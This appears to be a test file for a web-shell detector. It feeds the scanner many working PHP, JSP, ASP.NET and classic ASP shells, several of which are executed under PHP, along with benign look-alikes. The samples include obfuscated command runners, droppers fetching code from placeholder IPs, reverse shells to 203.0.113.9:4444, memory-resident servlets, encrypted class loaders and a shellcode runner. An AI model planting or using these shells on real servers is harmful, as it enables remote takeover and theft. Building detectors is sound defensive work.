import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createScanner } from './scanner.js';
import { foldVariables } from './php-fold.js';

// Techniques the session-21 measurement found missed (bench/README, "Session 21"), each written
// again by us: names from constants, class members, keyed arrays, loops and functions of the file;
// code in heredocs with escapes; superglobals joined with +; output handed to a command through a
// variable; JSPX character references; VBScript Dictionaries. The PHP samples that PHP 8.2 can run
// are run by it where it is installed (they print a marker through `echo`), so each is a real shell.
const scanner = createScanner({});
const scan = (src: string, path = '/www/x.php') => scanner.scanBuffer(Buffer.from(src, 'latin1'), path);
const php = spawnSync('php', ['-v'], { encoding: 'utf8' }).status === 0;
const MARK = `s21run${process.pid}`;

/** Runs `src` under PHP with the request's c = "echo MARK" (and f = "system"); whether MARK came out. */
function runs(src: string): boolean {
  const prelude = `$_GET = ['c' => 'echo ${MARK}', 'cmd' => 'echo ${MARK}', 'f' => 'system']; $_POST = $_GET; $_REQUEST = $_GET;`;
  const body = src.replace(/^<\?php\s*/, '').replace(/\?>\s*$/, '');
  const r = spawnSync('php', ['-d', 'display_errors=stderr', '-r', `${prelude}\n${body}`], { encoding: 'utf8', timeout: 10_000 });
  return r.stdout.includes(MARK);
}

const PHP_SAMPLES: { name: string; src: string; run?: boolean }[] = [
  { name: 'a constant of a define() of pieces, read by constant()', src: `<?php define('RUNNER', 'sys' . 'tem'); $f = constant('RUNNER'); $f($_GET['c']);` },
  { name: 'a class constant joined, called in brackets', src: `<?php class Cfg { const A = 'sys'; const B = 'tem'; } (Cfg::A . Cfg::B)($_GET['c']);` },
  { name: 'a static property read through self::', src: `<?php class Job { public static $h = 'system'; static function go($x) { (self::$h)($x); } } Job::go($_GET['c']);` },
  { name: 'a property set in the constructor, the runner created through call_user_func', src: `<?php class Rules { private $p; function __construct() { $this->p = implode('_', ['create', 'function']); } function go() { $h = call_user_func($this->p, '', $_POST['c']); $h(); } } (new Rules)->go();`, run: false },
  { name: 'a keyed map, the runner taken by its key', src: `<?php $ops = ['list' => 'scandir', 'run' => 'sys' . 'tem']; $ops['run']($_GET['c']);` },
  { name: 'extract() of a literal map', src: `<?php extract(['fn' => 'system']); $fn($_GET['c']);` },
  { name: 'a loop appending chr() of a list', src: `<?php $n = ''; foreach ([115, 121, 115, 116, 101, 109] as $o) { $n .= chr($o); } $n($_GET['c']);` },
  { name: 'a helper of one return decoding the name', src: `<?php function nm($s) { return base64_decode($s); } nm('c3lzdGVt')($_GET['c']);` },
  { name: 'an element appended to a list, then called', src: `<?php $l = []; $l[] = 'ignored'; $l[] = 'system'; $l[1]($_GET['c']);` },
  { name: 'a heredoc of code with escaped dollars, evaluated', src: `<?php $code = <<<EOC\n\\$r = 'system';\n\\$r(\\$_GET['c']);\nEOC;\neval($code);` },
  { name: 'the union of $_GET and $_POST evaluated', src: `<?php $in = $_GET + $_POST; eval(stripslashes('echo "' . '' . '";') . 'system($in["c"]);');`, run: true },
  { name: 'ob_start given a command function held in a variable', src: `<?php $handler = 'system'; ob_start($handler); echo $_GET['c']; ob_end_flush();` },
  { name: 'eval of entity-decoded, url-decoded base64', src: `<?php $blob = '${Buffer.from(encodeURIComponent('system($_GET["c"]);')).toString('base64')}'; eval(htmlspecialchars_decode(urldecode(base64_decode($blob))));` },
  { name: 'a closure kept in a variable calling its parameter', src: `<?php $call = function ($f, $a) { return $f($a); }; $call('system', $_GET['c']);` },
  { name: 'call_user_func of a static method by its name', src: `<?php class Svc { static function run($f, $a) { $f($a); } } call_user_func('Svc::run', $_GET['f'], $_GET['c']);` },
  { name: 'a method invoked through ReflectionMethod', src: `<?php class Svc { function run($f, $a) { $f($a); } } (new ReflectionMethod('Svc', 'run'))->invoke(new Svc, $_GET['f'], $_GET['c']);` },
];

describe('scan: PHP techniques of session 21, samples of our own', () => {
  for (const s of PHP_SAMPLES) {
    it(`malicious: ${s.name}`, () => {
      if (php && s.run !== false) assert.ok(runs(s.src), `the sample does not run under PHP: ${s.src}`);
      const r = scan(s.src);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
});

describe('scan: droppers and loaders of session 21, samples of our own (not run)', () => {
  const cases: [string, string][] = [
    ['a file fetched from a URL copied to a .php', `<?php copy('http://198.51.100.7/t.txt', 'cache-x.php');`],
    ['a remote file saved as .php by file_put_contents', `<?php file_put_contents('wp-cache.php', file_get_contents('https://198.51.100.7/p.txt'));`],
    ['PHP code written from hex', `<?php $h = fopen('inc.php', 'w'); fwrite($h, pack('H*', '${Buffer.from('<?php system($_GET["c"]);').toString('hex')}')); fclose($h);`],
    ['C source compiled in /tmp and run', `<?php file_put_contents('/tmp/bc.c', base64_decode($_POST['s'])); shell_exec('gcc -o /tmp/bc /tmp/bc.c'); shell_exec('/tmp/bc 203.0.113.9 4444 &');`],
    ['code written to a temporary file, included and deleted', `<?php class C { function go($code) { $t = tempnam(sys_get_temp_dir(), 'c'); file_put_contents($t, "<?php " . $code); include($t); unlink($t); } } if (isset($_COOKIE['k'])) (new C)->go(base64_decode($_COOKIE['k']));`],
  ];
  for (const [name, src] of cases) {
    it(`malicious: ${name}`, () => {
      const r = scan(src);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('malicious: a staged reverse shell reading its code from a socket', () => {
    const src = `<?php $s = stream_socket_client('tcp://203.0.113.9:4444'); $n = unpack('Nn', fread($s, 4)); $code = ''; while (strlen($code) < $n['n']) { $code .= fread($s, $n['n'] - strlen($code)); } eval($code);`;
    assert.equal(scan(src).verdict, 'malicious');
  });
  it('malicious: an SQL client whose server, account and query are the request\'s', () => {
    const src = `<?php $l = mysqli_connect($_POST['h'], $_POST['u'], $_POST['p']); $r = mysqli_query($l, $_POST['q']); while ($row = mysqli_fetch_row($r)) echo htmlspecialchars(implode(' | ', $row)), "\n";`;
    assert.equal(scan(src).verdict, 'malicious');
  });
  it('malicious: a name taken from string offsets in braces and called through $GLOBALS', () => {
    const src = `<?php $k = 'sab64e_doc'; $f = $k{2} . $k{1} . $k{0} . $k{5}; $f .= $k{3} . $k{4} . $k{6} . $k{7} . $k{5} . $k{9} . $k{8} . $k{7} . $k{5}; eval($GLOBALS['f']('c3lzdGVtKCRfR0VUWyJjIl0pOw=='));`;
    assert.equal(scan(src).verdict, 'malicious');
  });
  it('malicious: an upload kept under the client\'s name in a directory the request names, through a variable', () => {
    const src = `<?php $dir = realpath($_GET['d'] ?? __DIR__); if (isset($_FILES['f'])) { $tmp = $_FILES['f']['tmp_name']; $n = basename($_FILES['f']['name']); move_uploaded_file($tmp, $dir . '/' . $n); }`;
    assert.equal(scan(src).verdict, 'malicious');
  });
  it('malicious: include of a variable holding what the request names', () => {
    assert.equal(scan(`<?php $f = $_GET['f']; include($f);`).verdict, 'malicious');
  });
  it('not malicious: include of a page the request chooses from a list, or with a directory and a suffix', () => {
    assert.notEqual(scan(`<?php $p = $_GET['p'] ?? 'home'; $pages = ['home', 'about']; $p = in_array($p, $pages, true) ? $p : 'home'; include __DIR__ . '/pages/' . $p . '.php';`).verdict, 'malicious');
  });
  it('not malicious: a template engine writing compiled PHP to its cache and including it', () => {
    const src = `<?php class Tpl { function render($name, $vars) { $file = __DIR__ . '/cache/' . md5($name) . '.php'; if (!is_file($file)) file_put_contents($file, "<?php " . $this->compile($name)); extract($vars); include $file; } function compile($n) { return 'echo htmlspecialchars($title);'; } }`;
    assert.notEqual(scan(src).verdict, 'malicious');
  });
});

describe('scan: JSP and ASP.NET shapes of session 21, samples of our own', () => {
  const cases: [string, string, string][] = [
    ['an EL expression calling methods the parameters name', '/www/el.jsp', '${pageContext[param.a][param.b](param.c)}'],
    ['a class and a method named by the request, invoked', '/www/r.jsp', `<%@ page import="java.lang.reflect.*" %><% String k = request.getParameter("k"); Class c = Class.forName(k); Method m = c.getMethod(request.getParameter("m"), String.class); out.print(m.invoke(c.newInstance(), request.getParameter("a"))); %>`],
    ['a servlet registered at run time through StandardContext that runs commands', '/www/m.jsp', `<%@ page import="org.apache.catalina.core.*,java.lang.reflect.*" %><% java.lang.reflect.Field f = request.getClass().getDeclaredField("request"); f.setAccessible(true); StandardContext ctx = (StandardContext) ((org.apache.catalina.connector.Request) f.get(request)).getContext(); javax.servlet.Servlet s = new javax.servlet.GenericServlet() { public void service(javax.servlet.ServletRequest q, javax.servlet.ServletResponse r) throws java.io.IOException { Runtime.getRuntime().exec(q.getParameter("c")); } }; org.apache.catalina.Wrapper w = ctx.createWrapper(); w.setName("h"); w.setServlet(s); ctx.addChild(w); ctx.addServletMappingDecoded("/h", "h"); %>`],
    ['a class loader of raw request bytes (Behinder\'s equals(pageContext))', '/www/b.jsp', `<%! class L extends ClassLoader { L(ClassLoader p) { super(p); } Class d(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% byte[] b = new byte[request.getContentLength()]; request.getInputStream().read(b); new L(getClass().getClassLoader()).d(b).newInstance().equals(pageContext); %>`],
    ['a web service method starting the program it is given', '/www/s.asmx', `<%@ WebService Language="C#" Class="S" %>\nusing System.Diagnostics; using System.Web.Services;\npublic class S : WebService { [WebMethod] public string Run(string f, string a) { var p = Process.Start(new ProcessStartInfo(f, a) { RedirectStandardOutput = true, UseShellExecute = false }); return p.StandardOutput.ReadToEnd(); } }`],
  ];
  for (const [name, path, src] of cases) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('malicious: ASP.NET shapes that start a command line or code from the request', () => {
    const pages: [string, string][] = [
      ['/www/w.aspx', `<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { var w = new System.Management.ManagementClass("Win32_Process"); var a = w.GetMethodParameters("Create"); a["CommandLine"] = Request.QueryString["q"]; w.InvokeMethod("Create", a, null); }</script>`],
      ['/www/c.aspx', `<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { string line = "cmd.exe /c " + Request.Form["q"]; Native.Run(line); }</script>`],
      ['/www/r.aspx', `<%@ Page Language="C#" %><script runat="server">async void Page_Load(object s, EventArgs e) { var v = await Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync(Request.QueryString["e"]); Response.Write(v); }</script>`],
      ['/www/a.aspx', `<%@ Page Language="C#" %><% var o = System.Reflection.Assembly.Load(Convert.FromBase64String("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==")).CreateInstance("K"); Response.Write(o); %>`],
    ];
    for (const [path, src] of pages) assert.equal(scan(src, path).verdict, 'malicious', path);
  });
  it('clean: EL reading parameters and calling a bean method by a fixed name', () => {
    assert.notEqual(scan('<p>${fn:escapeXml(param.q)} ${cart.total()} ${param["page"]}</p>', '/www/ok.jsp').verdict, 'malicious');
  });
  it('clean: a web service method that runs a fixed program', () => {
    const src = `<%@ WebService Language="C#" Class="S" %>\nusing System.Diagnostics; using System.Web.Services;\npublic class S : WebService { [WebMethod] public string Uptime() { var p = Process.Start(new ProcessStartInfo("uptime") { RedirectStandardOutput = true, UseShellExecute = false }); return p.StandardOutput.ReadToEnd(); } }`;
    assert.notEqual(scan(src, '/www/ok.asmx').verdict, 'malicious');
  });
});

describe('scan: shapes found missing in the third held-out set, samples of our own', () => {
  const cases: [string, string, string][] = [
    ['an ASP.NET shellcode runner', '/www/sc.aspx', `<%@ Page Language="C#" %><script runat="server">[System.Runtime.InteropServices.DllImport("kernel32")] static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, int t, IntPtr p); [System.Runtime.InteropServices.DllImport("kernel32")] static extern IntPtr CreateThread(IntPtr a, UIntPtr s, IntPtr f, IntPtr p, int c, ref IntPtr id); void Page_Load(object o, EventArgs e) { byte[] b = new byte[] { 0x90, 0x90, 0xc3 }; IntPtr m = VirtualAlloc(IntPtr.Zero, (UIntPtr)b.Length, 0x1000, (IntPtr)0x40); System.Runtime.InteropServices.Marshal.Copy(b, 0, m, b.Length); IntPtr id = IntPtr.Zero; CreateThread(IntPtr.Zero, UIntPtr.Zero, m, IntPtr.Zero, 0, ref id); }</script>`],
    ['classic ASP fetching a file and saving it as a page', '/www/d.asp', `<%\nSet h = CreateObject("MSXML2.ServerXMLHTTP")\nh.Open "GET", "http://198.51.100.7/a.txt", False\nh.Send\nSet st = CreateObject("ADODB.Stream")\nst.Type = 1\nst.Open\nst.Write h.responseBody\nst.SaveToFile Server.MapPath("cache.asp"), 2\n%>`],
    ['a handler whose own command language runs a program from the request', '/www/h.ashx', `<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web; using System.Diagnostics;\npublic class H : IHttpHandler { public bool IsReusable { get { return false; } }\npublic void ProcessRequest(HttpContext context) { string line = context.Request.Form["q"]; context.Response.Write(Dispatch(line)); }\nstring Dispatch(string line) { if (line.StartsWith("run ")) { string exe = line.Substring(4); return Run(exe); } return "?"; }\nstring Run(string exe) { Process.Start(exe); return "ok"; } }`],
    ['a JSP reverse shell', '/www/rs.jsp', `<%@page import="java.io.*,java.net.*"%><% Socket s = new Socket("203.0.113.9", 4444); Process p = Runtime.getRuntime().exec("/bin/sh"); InputStream pi = p.getInputStream(); OutputStream so = s.getOutputStream(); InputStream si = s.getInputStream(); OutputStream po = p.getOutputStream(); byte[] b = new byte[4096]; int n; while ((n = si.read(b)) > 0) { po.write(b, 0, n); po.flush(); while (pi.available() > 0) so.write(pi.read()); } %>`],
    ['a JSP defining a class by reflection from decrypted request bytes', '/www/dc.jsp', `<%@page import="javax.crypto.*,javax.crypto.spec.*"%><% byte[] b = java.util.Base64.getDecoder().decode(request.getReader().readLine()); Cipher c = Cipher.getInstance("AES"); c.init(2, new SecretKeySpec("0123456789abcdef".getBytes(), "AES")); b = c.doFinal(b); java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class); m.setAccessible(true); ((Class) m.invoke(getClass().getClassLoader(), b, 0, b.length)).newInstance().equals(pageContext); %>`],
  ];
  for (const [name, path, src] of cases) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  const php: [string, string][] = [
    ['a downloader of text saved as PHP in the web root', `<?php $t = file_get_contents('http://198.51.100.7/up.txt'); $f = fopen($_SERVER['DOCUMENT_ROOT'] . '/images/up.php', 'w'); fwrite($f, $t); fclose($f);`],
    ['a WordPress hook creating an administrator from the request', `<?php add_action('init', function () { if (isset($_GET['mk'])) { $id = wp_create_user($_GET['u'], $_GET['p']); (new WP_User($id))->set_role('administrator'); } });`],
    ['a Perl back-connect dropped in /tmp and run in the background', `<?php function run($c) { return shell_exec($c); } $ip = $_POST['ip']; $port = $_POST['port']; file_put_contents('/tmp/.p', base64_decode('dXNlIFNvY2tldDs=')); run("perl /tmp/.p $ip $port &");`],
  ];
  for (const [name, src] of php) {
    it(`malicious: ${name}`, () => {
      const r = scan(src);
      assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
  it('flagged: a register_globals command form', () => {
    const r = scan(`<?php if (!empty($cmd)) { echo '<pre>'; system($cmd); echo '</pre>'; } ?><form method="post"><input name="cmd"><input type="submit"></form>`);
    assert.notEqual(r.verdict, 'clean');
  });
  it('not malicious: a plugin creating an editor from its settings page', () => {
    const src = `<?php add_action('admin_init', function () { if (current_user_can('create_users') && isset($_POST['new_editor'])) { check_admin_referer('mk'); $id = wp_create_user(sanitize_user($_POST['login']), wp_generate_password()); (new WP_User($id))->set_role('editor'); } });`;
    assert.notEqual(scan(src).verdict, 'malicious');
  });
  it('not malicious: an updater fetching a release and saving it as a zip', () => {
    const src = `<?php $z = file_get_contents('https://downloads.example.org/release-2.1.zip'); file_put_contents(__DIR__ . '/update.zip', $z); echo 'saved';`;
    assert.notEqual(scan(src).verdict, 'malicious');
  });
});

describe('scan: PHP 7 reads a bare word as its own name (an undefined constant)', () => {
  it('a called group of bare words and literals is folded to the name', () => {
    assert.equal(foldVariables(`<?php (sy.(st).'em')($_GET['c']);`), `<?php ('system')($_GET['c']);`);
    assert.equal(scan(`<?=(sy.(st).(em))($_GET['cmd'])?>`).verdict, 'malicious');
  });
  it('a bracket of a call\'s arguments is not such a group', () => {
    assert.equal(foldVariables(`<?php f(sy.(st).'em')($_GET['c']);`), undefined);
  });
});

const BENIGN: [string, string][] = [
  ['a constant naming a formatter used on input', `<?php define('CASE_FN', 'strtoupper'); echo htmlspecialchars(constant('CASE_FN')($_GET['q'] ?? ''));`],
  ['a property set in the constructor to a logger name, called', `<?php class L { private $w; function __construct() { $this->w = 'error_log'; } function log($m) { call_user_func($this->w, $m); } } (new L)->log($_GET['q'] ?? '');`],
  ['a heredoc template with escaped dollars, printed', `<?php $tpl = <<<T\nPrice: \\$%s\nT;\nprintf($tpl, htmlspecialchars($_GET['p'] ?? '0'));`],
  ['$_GET + defaults, printed', `<?php $o = $_GET + ['page' => 1]; echo (int) $o['page'];`],
  ['ob_start with a compressor held in a variable', `<?php $cb = 'ob_gzhandler'; ob_start($cb); echo htmlspecialchars($_GET['q'] ?? '');`],
  ['a keyed list of callbacks for array_map', `<?php $f = ['clean' => 'trim']; echo htmlspecialchars(implode(',', array_map($f['clean'], (array) ($_GET['t'] ?? []))));`],
];

describe('scan: look-alikes of the session 21 techniques stay below malicious', () => {
  for (const [name, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src);
      assert.notEqual(r.verdict, 'malicious', JSON.stringify(r.findings));
    });
  }
});

describe('scan: JSPX and VBScript, as their runtimes read them', () => {
  const enc = (s: string) => [...s].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('');
  it('a JSPX scriptlet written as character references is read decoded', () => {
    const src = `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>${enc('Process p = Runtime.getRuntime().exec(request.getParameter("c"));')}</jsp:scriptlet></jsp:root>`;
    assert.equal(scan(src, '/www/a.jspx').verdict, 'malicious');
  });
  it('a JSPX scriptlet split by CDATA sections is read joined', () => {
    const src = `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><jsp:scriptlet>Runtime.get<![CDATA[Runtime().ex]]>ec(request.getPara<![CDATA[meter("c"));]]></jsp:scriptlet></jsp:root>`;
    assert.equal(scan(src, '/www/b.jspx').verdict, 'malicious');
  });
  it('a JSPX page of ordinary entities stays clean', () => {
    const src = `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="2.0"><p>Fish &amp; chips &#x2014; &lt;today&gt;</p><jsp:expression>request.getParameter("q") == null ? "" : "q"</jsp:expression></jsp:root>`;
    assert.equal(scan(src, '/www/c.jspx').verdict, 'clean');
  });
  it('VBScript code built in a Scripting.Dictionary and Executed', () => {
    const src = `<%\nSet parts = CreateObject("Scripting.Dictionary")\nparts.Add "x", "ev"\nparts.Add "y", "al"\nk = "pw"\nbuilt = parts.Item("x") & parts.Item("y") & "(request(""" & k & """))"\nExecute built\n%>`;
    assert.equal(scan(src, '/www/d.asp').verdict, 'malicious');
  });
  it('VBScript code joined from an Array in one branch of a Select Case, then Executed', () => {
    const src = `<%\nmode = 2\nSelect Case mode\nCase 1\n  code = "noop"\nCase 2\n  bits = Array("e", "v", "a", "l", "(", "r", "e", "q", "u", "e", "s", "t", "(", \"\"\"\", "k", \"\"\"\", ")", ")")\n  code = Join(bits, "")\nCase Else\n  code = "other"\nEnd Select\nExecute(code)\n%>`;
    assert.equal(scan(src, '/www/f.asp').verdict, 'malicious');
  });
  it('ASP.NET Assembly.Load by reflection with the name reversed or spelled in chars (Godzilla\'s shape)', () => {
    const body = (name: string) => `<%@ Page Language="C#"%><%var key = System.Text.Encoding.Default.GetBytes(string.Concat("0123", "4567", "89ab", "cdef"));var data = System.Convert.FromBase64String(Context.Request[string.Join("", new char[]{'p','w'})]);data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(data, 0, data.Length);var t = typeof(System.Reflection.Assembly);var m = t.GetMethod(${name}, new System.Type[]{typeof(byte[])});Context.Session["p"] = m.Invoke(null, new object[]{data});%>`;
    assert.equal(scan(body('new string("daoL".ToCharArray().Reverse().ToArray())'), '/www/g.aspx').verdict, 'malicious');
    assert.equal(scan(body('new string(new char[]{(char)76,(char)111,(char)97,(char)100})'), '/www/h.aspx').verdict, 'malicious');
  });
  it('an ASP.NET page running the program a TextBox names, through a helper', () => {
    const src = `<%@ Page Language="C#"%>\n<script runat="server">\nstring Run(string exe, string args) { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = exe; p.StartInfo.Arguments = args; p.StartInfo.UseShellExecute = false; p.Start(); return ""; }\nvoid Go(object s, EventArgs e) { string exe = Prog.Text; string args = Args.Text; Out.Text = Run(exe, args); }\n</script>\n<form runat="server"><asp:TextBox ID="Prog" runat="server"/><asp:TextBox ID="Args" runat="server"/><asp:Button OnClick="Go" runat="server"/><asp:Label ID="Out" runat="server"/></form>`;
    assert.equal(scan(src, '/www/i.aspx').verdict, 'malicious');
  });
  it('a JSP writing a request parameter into the file another names, in one statement', () => {
    const src = `<%new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("n")).write(java.util.Base64.getDecoder().decode(request.getParameter("d")));%>`;
    assert.equal(scan(src, '/www/j.jsp').verdict, 'malicious');
  });
  it('a JSP writing a copy of a parameter (new String of its bytes) where another says', () => {
    const src = `<%\nString body = new String(request.getParameter("b").getBytes("ISO-8859-1"), "UTF-8");\nString where = new String(request.getParameter("w").getBytes("ISO-8859-1"), "UTF-8");\njava.io.OutputStream o = new java.io.FileOutputStream(where);\no.write(body.getBytes());\no.close();\n%>`;
    assert.equal(scan(src, '/www/k.jsp').verdict, 'malicious');
  });
  it('a JSP char-array literal left open, 300 items with gaps, is read to its end (it backtracked for ever, the twin of S21R-1)', () => {
    assert.equal(scan(`<% String s = new String(new char[]{${"'a'    ".repeat(300)} %>`, '/www/open.jsp').verdict, 'clean');
  });
  it('a Dictionary of page titles, printed, stays clean', () => {
    const src = `<%\nSet t = CreateObject("Scripting.Dictionary")\nt.Add "home", "Welcome"\ntitle = t.Item("home") & " - Shop"\nResponse.Write Server.HTMLEncode(title & Request.QueryString("q"))\n%>`;
    assert.equal(scan(src, '/www/e.asp').verdict, 'clean');
  });
});
